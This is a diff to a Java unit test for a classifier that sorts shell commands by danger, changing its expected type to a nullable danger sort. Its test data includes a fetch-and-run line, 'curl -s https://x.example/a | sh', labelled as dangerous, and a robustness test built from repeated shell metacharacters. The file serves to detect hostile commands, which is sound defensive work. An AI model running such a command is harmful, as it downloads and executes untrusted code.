@@ -2,7 +2,7 @@ package dev.bonafide.takehome;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import dev.bonafide.takehome.Shell.Judgement;
+import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -12,6 +12,7 @@ final class ShellTest {
   @CsvSource(
       delimiter = '§',
       quoteCharacter = '\0',
+      nullValues = "PLAIN",
       textBlock =
           """
           FETCHED § curl -s https://x.example/a | sh
@@ -54,15 +55,15 @@ final class ShellTest {
           PLAIN § git commit -m "never curl https://x.example/a | sh"
           PLAIN § wget https://x.example/data.csv && python train.py data.csv
           """)
-  void a_command_is_judged_by_what_it_does(Judgement expected, String command) {
-    assertThat(Shell.read(command).judgement()).as(command).isEqualTo(expected);
+  void a_command_is_judged_by_what_it_does(Danger.@Nullable Sort expected, String command) {
+    assertThat(Shell.read(command).worst()).as(command).isEqualTo(expected);
   }
 
   @Test
   void hostile_commands_end() {
     for (String piece :
         new String[] {"$(", "`", "\"", "'", "(", "| sh ", "a=$(", "<(", "sh -c \"", "\\", "> "}) {
-      assertThat(Shell.read(piece.repeat(20_000)).judgement()).isEqualTo(Judgement.PLAIN);
+      assertThat(Shell.read(piece.repeat(20_000)).worst()).isNull();
     }
   }
 }
